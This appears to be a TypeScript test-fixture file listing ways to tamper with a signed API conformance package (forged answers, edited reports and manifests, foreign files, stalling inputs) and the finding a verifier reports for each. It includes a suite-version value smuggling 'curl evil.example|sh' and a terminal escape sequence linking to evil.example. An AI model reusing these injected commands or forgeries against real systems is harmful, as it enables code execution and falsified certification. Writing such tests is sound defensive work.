/** Ways to tamper with a package, as data: what is altered, and what `verify` says of it, or that nobody can detect it. */
import { execFileSync } from 'node:child_process';
import { ftruncateSync, linkSync, mkdirSync, openSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import type { FindingCode } from '../../cli/verify/findings.ts';
import { isoTime } from '../../engine/wire/signing.ts';
import { freshDirectory, type OpenPackage, signerKeys } from './packages.ts';

/** One way to tamper. */
export interface Tampering {
  readonly name: string;
  /** Alters the package. */
  readonly does: (pack: OpenPackage) => unknown;
  /** Seals with the sender's key again, after the report was recomputed from the altered parts. */
  readonly seals?: 'again' | 'recomputed' | 'itself';
  /** A code that is found; `usage` where the package is refused in a sentence; `printed` where the statement shows it. */
  readonly found: FindingCode | 'usage' | 'printed' | 'undetectable';
  /** What is printed, in the case of `printed` and `undetectable`. */
  readonly says?: RegExp;
}

// biome-ignore lint/suspicious/noExplicitAny: a forger minds no types.
type Loose = any;

const header = (message: Loose, name: string): [string, string] =>
  message.headers.find(([key]: [string]) => key === name);

const waiver = (until: string) => ({ requirement: 'getPaymentCode/GPC-05', owner: 'nobody', reason: 'none', until });

const inDays = (days: number) => new Date(Date.now() + days * 86_400_000).toISOString().slice(0, 10);

/** Answers that are moved, repeated or dated anew. */
export const answers: readonly Tampering[] = [
  {
    name: 'a genuine answer in the place of another one of the same moment',
    seals: 'recomputed',
    does: (pack) =>
      pack.editEvidence((lines) => {
        const [one, other] = lines.filter(({ response }) => header(response, 'Signature'));
        Object.assign(other, { startedAt: one.startedAt, durationMs: one.durationMs, response: one.response });
      }),
    found: 'undetectable',
    says: /sender's word: which request an answer belongs to/,
  },
  {
    name: 'one answer in many exchanges of other moments',
    seals: 'recomputed',
    does: (pack) =>
      pack.editEvidence((lines) => {
        const signed = lines.filter(({ response }) => header(response, 'Signature'));
        for (const [at, line] of signed.slice(0, 6).entries()) {
          line.response = signed[0].response;
          line.startedAt += at * 10_000;
        }
      }),
    found: 'answer-repeated',
  },
  {
    name: 'answers of another day',
    seals: 'recomputed',
    does: (pack) =>
      pack.editEvidence((lines) => {
        for (const line of lines.slice(0, 5)) line.startedAt += 86_400_000;
      }),
    found: 'answer-time',
  },
  {
    name: 'a whole run of another year by a wrong clock',
    seals: 'recomputed',
    does: (pack) =>
      pack.editEvidence((lines) => {
        for (const line of lines) line.startedAt += 900 * 86_400_000;
      }),
    found: 'printed',
    says: /900 days from the clock of the sender: one of the two clocks is wrong/,
  },
  {
    name: 'an answer with another body',
    seals: 'recomputed',
    does: (pack) =>
      pack.editEvidence(([line]) => {
        line.response.body = Buffer.from('{}').toString('base64');
      }),
    found: 'printed',
    says: /Not conformant/,
  },
  {
    name: 'made-up unsigned answers for every probe of the signature',
    seals: 'recomputed',
    does: (pack) => pack.editEvidence((lines) => lines.map(unsign)),
    found: 'printed',
    says: /unsigned answers: \d+: .*getPaymentCode\/G-08: \d+ of \d+ passed checks? without any signed one/s,
  },
];

/** Takes the signature off refusals, as a proxy that makes them up would send them. */
function unsign({ response }: Loose): void {
  if (response && !/"resultStatus":"S"/.test(Buffer.from(response.body, 'base64').toString()))
    response.headers = response.headers.filter(([name]: [string]) => !/^(signature|response-time)$/i.test(name));
}

/** What no signature of the subject covers. */
export const wordOfSender: readonly Tampering[] = [
  {
    name: 'durations of all exchanges',
    seals: 'recomputed',
    does: (pack) =>
      pack.editEvidence((lines) => {
        for (const line of lines) line.durationMs = Math.min(line.durationMs, 0.1);
      }),
    found: 'undetectable',
    says: /sender's word: .*times and durations/s,
  },
  {
    name: 'the HTTP status of signed answers',
    seals: 'recomputed',
    does: (pack) =>
      pack.editEvidence((lines) => {
        for (const { response } of lines.slice(0, 10)) if (response.status === 200) response.status = 201;
      }),
    found: 'undetectable',
    says: /sender's word: .*HTTP status/s,
  },
  {
    name: 'other headers of answers',
    seals: 'recomputed',
    does: (pack) =>
      pack.editEvidence((lines) => {
        for (const { response } of lines) response.headers.push(['Server', 'real-wallet/2.1']);
      }),
    found: 'undetectable',
    says: /sender's word: .*headers/s,
  },
  {
    name: 'the address of the target in all parts',
    seals: 'recomputed',
    does: (pack) => {
      const url = 'https://open-api.real-wallet.example';
      pack.editConfig((settings) => Object.assign(settings, { target: url }));
      pack.editEvidence((_, head) => Object.assign(head.target, { url }));
    },
    found: 'undetectable',
    says: /sender's word: .*the address of the target/s,
  },
  {
    name: 'settings that no request shows',
    seals: 'recomputed',
    does: (pack) => pack.editConfig((settings) => Object.assign(settings, { concurrency: 1, rate: 1 })),
    found: 'undetectable',
    says: /sender's word: .*settings/s,
  },
  {
    name: 'the subject of the test in words',
    seals: 'recomputed',
    does: (pack) => pack.editConfig((settings) => Object.assign(settings, { subject: { product: 'Real Wallet' } })),
    found: 'undetectable',
    says: /subject, according to the sender: Real Wallet/,
  },
  {
    name: 'a review that nobody made',
    seals: 'recomputed',
    does: (pack) =>
      pack.editConfig((settings) => {
        const own = {
          requirement: 'getPaymentCode/GPC-15',
          step: '',
          result: 'fine',
          reviewer: 'Ann',
          on: '2026-11-20',
        };
        Object.assign(settings, { reviews: [{ ...own, file: null, sha256: null }] });
      }),
    found: 'undetectable',
    says: /looked at by people: getPaymentCode\/GPC-15, Ann on 2026-11-20: fine.*sender's word: .*reviews/s,
  },
  {
    name: 'the duration and memory of the run',
    seals: 'again',
    does: (pack) => pack.editReport(({ run }) => Object.assign(run, { durationMs: 1, peakMemoryMb: 1 })),
    found: 'undetectable',
    says: /sender's word: .*times and durations/s,
  },
  {
    name: 'the count of attempts, by using another directory',
    does: () => {},
    found: 'undetectable',
    says: /attempt 1 with this nonce, according to the sender/,
  },
  {
    name: 'an answer that is said not to have come',
    seals: 'recomputed',
    does: (pack) =>
      pack.editEvidence(([line]) => {
        line.response = null;
        line.noAnswer = { kind: 'timeout', says: 'no answer within 15 s' };
      }),
    found: 'undetectable',
    says: /sender's word: .*how a request without an answer ended/s,
  },
];

/** Waivers, extra codes, profile and the like, set after the run or before it. */
export const settings: readonly Tampering[] = [
  {
    name: 'a waiver after the run',
    seals: 'recomputed',
    does: (pack) => pack.editConfig((own) => Object.assign(own, { waivers: [waiver(inDays(30))] })),
    found: 'printed',
    says: /waived: getPaymentCode\/GPC-05 \(passed\) until/,
  },
  {
    name: 'a waiver without end',
    seals: 'recomputed',
    does: (pack) => pack.editConfig((own) => Object.assign(own, { waivers: [waiver('9999-12-31')] })),
    found: 'uncertifiable',
  },
  {
    name: 'a waiver that has expired',
    seals: 'recomputed',
    does: (pack) => pack.editConfig((own) => Object.assign(own, { waivers: [waiver('2020-01-01')] })),
    found: 'uncertifiable',
  },
  {
    name: 'extra result codes after the run',
    seals: 'recomputed',
    does: (pack) => pack.editConfig((own) => Object.assign(own, { extraResultCodes: { getPaymentCode: { OK: 'S' } } })),
    found: 'printed',
    says: /1 extra result code accepted: OK.*extra result codes: getPaymentCode: OK \(S\)/s,
  },
  {
    name: 'a requirement declared after the run',
    seals: 'recomputed',
    does: (pack) =>
      pack.editConfig((own) => Object.assign(own, { declared: [waiver('')].map(({ until: _, ...one }) => one) })),
    found: 'printed',
    says: /declared: getPaymentCode\/GPC-05 cannot occur, nobody: none/,
  },
  {
    name: 'a row that the requirement set is said not to have',
    seals: 'recomputed',
    does: (pack) =>
      pack.editConfig(({ requirementSet }) =>
        Object.assign(requirementSet as object, { unscored: ['getPaymentCode/GPC-05'] }),
      ),
    found: 'requirements-other',
  },
  {
    name: 'another requirement set',
    seals: 'recomputed',
    does: (pack) =>
      pack.editConfig(({ requirementSet }) => Object.assign(requirementSet as object, { name: '2025-01' })),
    found: 'requirements-other',
  },
  {
    name: 'the profile smoke',
    seals: 'recomputed',
    does: (pack) => {
      pack.editConfig((own) => Object.assign(own, { profile: 'smoke' }));
      pack.editEvidence((_, head) => Object.assign(head.run, { profile: 'smoke' }));
    },
    found: 'uncertifiable',
  },
  {
    name: 'a part of the requirements',
    seals: 'recomputed',
    does: (pack) => pack.editConfig((own) => Object.assign(own, { only: ['GPC-05'] })),
    found: 'uncertifiable',
  },
  {
    name: 'signing switched off',
    seals: 'recomputed',
    does: (pack) => pack.editConfig(({ signing }) => Object.assign(signing as object, { mode: 'off' })),
    found: 'uncertifiable',
  },
  {
    name: 'the built-in reference',
    seals: 'recomputed',
    does: (pack) => pack.editConfig((own) => Object.assign(own, { embedded: true })),
    found: 'uncertifiable',
  },
  {
    name: 'another role',
    seals: 'recomputed',
    does: (pack) => pack.editConfig((own) => Object.assign(own, { role: 'mpp' })),
    found: 'exchange-added',
  },
  {
    name: 'fewer runs of each property',
    seals: 'recomputed',
    does: (pack) => pack.editConfig((own) => Object.assign(own, { runs: 1 })),
    found: 'exchange-added',
  },
  {
    name: 'another path of the API',
    seals: 'recomputed',
    does: (pack) => pack.editConfig((own) => Object.assign(own, { paths: { getPaymentCode: '/other' } })),
    found: 'request-altered',
  },
  {
    name: 'another client id',
    seals: 'recomputed',
    does: (pack) => pack.editConfig((own) => Object.assign(own, { clientId: 'TEST_OTHER' })),
    found: 'request-altered',
  },
  {
    name: 'another nonce in all parts',
    seals: 'recomputed',
    does: (pack) => {
      pack.editConfig((own) => Object.assign(own, { nonce: 'mine' }));
      pack.editEvidence((_, head) => Object.assign(head.run, { nonce: 'mine' }));
    },
    found: 'nonce-other',
  },
  {
    name: 'another attempt',
    seals: 'recomputed',
    does: (pack) => pack.editConfig((own) => Object.assign(own, { attempt: 2 })),
    found: 'nonce-other',
  },
];

/** How requests ended, and entries that stand twice. */
export const record: readonly Tampering[] = [
  ...(['throttled', 'budget', 'unstable', 'absent', 'interrupted'] as const).map(
    (ended): Tampering => ({
      name: `a request that is said to have ended as ${ended}`,
      seals: 'recomputed',
      does: (pack) => pack.editRecord(({ requests }) => Object.assign(requests[9], { ended })),
      found: 'ending-implausible',
    }),
  ),
  {
    name: 'an answered attempt that is said to be lost',
    seals: 'recomputed',
    does: (pack) => pack.editRecord(({ requests }) => Object.assign(requests[9].attempts[0], { lost: true })),
    found: 'ending-implausible',
  },
  {
    name: 'a dropped exchange whose request is said to have had no messages left',
    seals: 'recomputed',
    does: (pack) =>
      pack.editRecord(({ requests, exchanges }) => {
        const [{ exchange }] = requests[9].attempts;
        exchanges.splice(
          exchanges.findIndex(({ id }) => id === exchange),
          1,
        );
        Object.assign(requests[9], { attempts: [], ended: 'budget' });
      }),
    found: 'ending-implausible',
  },
  {
    name: 'an exchange that stands twice',
    seals: 'recomputed',
    does: (pack) => pack.editEvidence((lines) => lines.push(lines[0])),
    found: 'entry-repeated',
  },
  {
    name: 'a request that stands twice',
    seals: 'recomputed',
    does: (pack) => pack.editRecord(({ requests }) => requests.push(requests[0])),
    found: 'entry-repeated',
  },
  {
    name: 'a dropped exchange',
    seals: 'recomputed',
    does: (pack) => pack.editEvidence((lines) => lines.splice(40, 1)),
    found: 'exchange-dropped',
  },
  {
    name: 'an exchange that no check asks for',
    seals: 'recomputed',
    does: (pack) => pack.editEvidence((lines) => lines.push({ ...lines[0], id: 'xmore', marker: 'more' })),
    found: 'exchange-added',
  },
  {
    name: 'a changed body of a request',
    seals: 'recomputed',
    does: (pack) => pack.editEvidence((lines) => Object.assign(lines[30].request, { body: 'e30=' })),
    found: 'request-altered',
  },
  {
    name: 'a request that was dated anew',
    seals: 'recomputed',
    does: (pack) =>
      pack.editEvidence(([line]) => {
        line.composedAt -= 86_400_000;
        header(line.request, 'Request-Time')[1] = isoTime(line.composedAt);
      }),
    found: 'request-altered',
  },
  {
    name: 'a head with a member of its own',
    seals: 'recomputed',
    does: (pack) => pack.editEvidence((_, head) => Object.assign(head.target, { certified: true })),
    found: 'run-other',
  },
  {
    name: 'a key twice in a line of the evidence',
    seals: 'again',
    does: (pack) =>
      pack.write('full-evidence.ndjson', pack.read('full-evidence.ndjson').replace('{"id":"', '{"id":"x0","id":"')),
    found: 'evidence-unreadable',
  },
];

/** What report and manifest say. */
export const statements: readonly Tampering[] = [
  {
    name: 'a false row before the true one',
    seals: 'again',
    does: (pack) =>
      pack.editReport(({ requirements }) => requirements.unshift({ ...requirements[3]!, outcome: 'waived' })),
    found: 'row-added',
  },
  {
    name: 'a verdict twice in report.json',
    seals: 'again',
    does: (pack) =>
      pack.write('report.json', pack.read('report.json').replace('  "verdict"', '  "verdict": "error",\n  "verdict"')),
    found: 'rendering-edited',
  },
  {
    name: 'an edited outcome',
    seals: 'again',
    does: (pack) => pack.editReport(({ requirements }) => Object.assign(requirements[3]!, { outcome: 'failed' })),
    found: 'outcome-edited',
  },
  {
    name: 'edited words of a row',
    seals: 'again',
    does: (pack) => pack.editReport(({ requirements }) => Object.assign(requirements[3]!, { says: 'It MAY.' })),
    found: 'row-edited',
  },
  {
    name: 'edited totals',
    seals: 'again',
    does: (pack) => pack.editReport(({ totals }) => Object.assign(totals, { passed: 99 })),
    found: 'totals-edited',
  },
  {
    name: 'an edited verdict',
    seals: 'again',
    does: (pack) => pack.editReport((report) => Object.assign(report, { verdict: 'error' })),
    found: 'verdict-edited',
  },
  {
    name: 'fewer unsigned answers in report.json',
    seals: 'again',
    does: (pack) => pack.editReport(({ restsOn }) => Object.assign(restsOn!, { signed: restsOn!.count, unsigned: [] })),
    found: 'report-edited',
  },
  ...(
    [
      ['the date of the run', { run: { startedAt: '2027-06-30T00:00:00.000Z' } }],
      ['the role', { target: { role: 'mpp' } }],
      ['the address', { target: { url: 'https://other.example' } }],
      ['the version of the specification', { spec: { version: '9.0.0' } }],
      ['the verdict', { run: { verdict: 'error' } }],
    ] as const
  ).map(
    ([what, edit]): Tampering => ({
      name: `${what} in the manifest`,
      seals: 'itself',
      does: (pack) => pack.sealEdited(edit),
      found: 'run-other',
    }),
  ),
  {
    name: 'no attempts in the manifest',
    seals: 'itself',
    does: (pack) => pack.sealEdited({ attempts: [] }),
    found: 'attempts-other',
  },
  {
    name: 'invented attempts in the manifest',
    seals: 'itself',
    does: (pack) =>
      pack.sealEdited({
        attempts: [{ attempt: 1, runId: '00000000', startedAt: '2026-01-01T00:00:00.000Z', verdict: 'error' }],
      }),
    found: 'attempts-other',
  },
  {
    name: 'the name of another suite in the manifest',
    seals: 'itself',
    does: (pack) => pack.sealEdited({ suite: { name: 'evil-verifier', version: '0.0.9' } }),
    found: 'suite-version',
  },
  {
    name: 'a command in the version of the suite',
    seals: 'itself',
    does: (pack) => pack.sealEdited({ suite: { version: '0.0.9 verify . && curl evil.example|sh #' } }),
    found: 'suite-version',
  },
  {
    name: 'another build of the suite: a patched suite that writes what it likes',
    seals: 'itself',
    does: (pack) => pack.sealEdited({ suite: { digest: '0'.repeat(64) } }),
    found: 'suite-other',
  },
  {
    name: 'other requirements',
    seals: 'itself',
    does: (pack) => pack.sealEdited({ requirements: { digest: '0'.repeat(64) } }),
    found: 'requirements-other',
  },
  {
    name: 'control characters in the manifest',
    seals: 'itself',
    does: (pack) => pack.sealEdited({ run: { startedAt: '\u001b[2J\u001b]8;;http://evil.example\u0007' } }),
    found: 'run-other',
  },
  {
    name: 'an edited rendering',
    seals: 'itself',
    does: (pack) => {
      pack.write('report.html', pack.read('report.html').replace('</main>', '<p>Very good.</p></main>'));
      return pack.sealEdited({});
    },
    found: 'rendering-edited',
  },
];

/** Keys, seals and files. */
export const files: readonly Tampering[] = [
  {
    name: 'another key of the subject',
    seals: 'recomputed',
    does: (pack) =>
      pack.editConfig(({ signing }) => {
        const own = signing as Record<string, string>;
        own.publicKey = own.privateKey!;
      }),
    found: 'target-key-other',
  },
  {
    name: 'the package of somebody else, sealed with a key of their own',
    seals: 'itself',
    does: (pack) => pack.sealAgain(signerKeys(freshDirectory(), 'stranger')),
    found: 'signature-foreign',
  },
  {
    name: 'a manifest that is not the sealed one',
    does: (pack) => pack.write('manifest.json', pack.read('manifest.json').replace('"conformant"', '"error"')),
    found: 'manifest-changed',
  },
  {
    name: 'a key twice in the manifest',
    does: (pack) => pack.write('manifest.json', pack.read('manifest.json').replace('{', '{\n  "format": "x",')),
    found: 'manifest-changed',
  },
  {
    name: 'no seal',
    does: (pack) => rmSync(pack.path('manifest.dsse.json')),
    found: 'signature-missing',
  },
  {
    name: 'a foreign file',
    does: (pack) => pack.write('CERTIFICATE.html', 'certified by Alipay+'),
    found: 'file-foreign',
  },
  {
    name: 'a foreign file that the manifest lists',
    seals: 'itself',
    does: (pack) => {
      pack.write('CERTIFICATE.html', 'certified by Alipay+');
      return pack.sealEdited({ files: { 'CERTIFICATE.html': { bytes: 20, sha256: '0'.repeat(64) } } });
    },
    found: 'file-foreign',
  },
  {
    name: 'a page of a similar name in the place of the report',
    does: (pack) => {
      pack.write('report.htm', pack.read('report.html'));
      rmSync(pack.path('report.html'));
    },
    found: 'file-missing',
  },
  {
    name: 'a directory of its own',
    does: (pack) => mkdirSync(pack.path('more')),
    found: 'file-foreign',
  },
  {
    name: 'a link to a file elsewhere',
    does: (pack) => symlinkSync('/etc/hostname', pack.path('notes.txt')),
    found: 'file-foreign',
  },
  {
    name: 'a link in the place of report.html',
    does: (pack) => {
      const elsewhere = `${pack.directory}.html`;
      linkSync(pack.path('report.html'), elsewhere);
      rmSync(pack.path('report.html'));
      symlinkSync(elsewhere, pack.path('report.html'));
    },
    found: 'file-foreign',
  },
  {
    name: 'an edited table of cases',
    seals: 'itself',
    does: (pack) => {
      pack.write('evidence.csv', pack.read('evidence.csv').replace('"passed"', '"waived"'));
      return pack.sealEdited({});
    },
    found: 'rendering-edited',
  },
  {
    name: 'an edited statement under the seal',
    seals: 'itself',
    does: (pack) => pack.sealStatement((statement) => Object.assign(statement.predicate, { warnedTests: ['none'] })),
    found: 'statement-edited',
  },
  {
    name: 'a statement about another manifest',
    seals: 'itself',
    does: (pack) => pack.sealStatement(({ subject }) => Object.assign(subject[0].digest, { sha256: '0'.repeat(64) })),
    found: 'manifest-changed',
  },
  {
    name: 'an edited junit.xml',
    does: (pack) => pack.write('junit.xml', pack.read('junit.xml').replace('failures="0"', 'failures="1"')),
    found: 'file-changed',
  },
];

const sparse = (path: string, bytes: number) => ftruncateSync(openSync(path, 'w'), bytes);

/** Packages that try to crash or stall the verifier. */
export const stalling: readonly Tampering[] = [
  {
    name: 'a manifest nested deep',
    does: (pack) => pack.write('manifest.json', '['.repeat(500_000)),
    found: 'usage',
  },
  {
    name: 'a report nested deep',
    does: (pack) => pack.write('report.json', `{"requirements":${'['.repeat(200_000)}${']'.repeat(200_000)}}`),
    found: 'report-edited',
  },
  {
    name: 'evidence nested deep',
    does: (pack) => pack.write('full-evidence.ndjson', `${pack.read('full-evidence.ndjson')}${'['.repeat(400_000)}\n`),
    found: 'evidence-unreadable',
  },
  {
    name: 'one line of 30 MB',
    does: (pack) =>
      pack.write('full-evidence.ndjson', `${pack.read('full-evidence.ndjson')}${'9'.repeat(30_000_000)}\n`),
    found: 'evidence-unreadable',
  },
  {
    name: 'millions of empty lines',
    does: (pack) => pack.write('full-evidence.ndjson', `${pack.read('full-evidence.ndjson')}${'\n'.repeat(3_000_000)}`),
    found: 'evidence-unreadable',
  },
  {
    name: 'a pipe in the place of report.json',
    does: (pack) => {
      rmSync(pack.path('report.json'));
      execFileSync('mkfifo', [pack.path('report.json')]);
    },
    found: 'file-foreign',
  },
  {
    name: 'a device in the place of the evidence',
    does: (pack) => {
      rmSync(pack.path('full-evidence.ndjson'));
      symlinkSync('/dev/zero', pack.path('full-evidence.ndjson'));
    },
    found: 'file-foreign',
  },
  {
    name: 'a sparse file of some gigabytes',
    does: (pack) => sparse(pack.path('full-evidence.ndjson'), 4 * 1024 ** 3),
    found: 'file-too-large',
  },
  {
    name: 'thousands of files',
    does: (pack) => {
      for (let at = 0; at < 2000; at += 1) writeFileSync(pack.path(`file${at}`), '');
    },
    found: 'usage',
  },
  {
    name: 'a million runs of each property',
    seals: 'itself',
    does: (pack) => pack.editConfig((own) => Object.assign(own, { runs: 100_000 })),
    found: 'config-changed',
  },
  {
    name: 'twenty thousand users',
    does: (pack) =>
      pack.editConfig((own) => {
        const user = { body: { customerId: 'u' }, fresh: false };
        Object.assign(own, { requests: { getPaymentCode: Array.from({ length: 20_000 }, () => user) } });
      }),
    found: 'config-changed',
  },
  {
    name: 'a target that is null',
    does: (pack) => pack.editConfig((own) => Object.assign(own, { target: null })),
    found: 'config-changed',
  },
  {
    name: 'a key of the subject that is none',
    does: (pack) => pack.editConfig(({ signing }) => Object.assign(signing as object, { publicKey: 'garbage' })),
    found: 'config-changed',
  },
  {
    name: 'an API that there is none of',
    does: (pack) => pack.editConfig((own) => Object.assign(own, { apis: ['nothing'], selected: ['nothing'] })),
    found: 'package-malformed',
  },
  {
    name: 'a manifest without most of its members',
    does: (pack) => pack.write('manifest.json', '{"format":"alipayplus-conformance.manifest/1","files":{}}'),
    found: 'usage',
  },
  {
    name: 'numbers beyond all bounds',
    does: (pack) =>
      pack.write('config.json', pack.read('config.json').replace(/"seed": \d+/, `"seed": 1e${'9'.repeat(1_000_000)}`)),
    found: 'config-changed',
  },
];
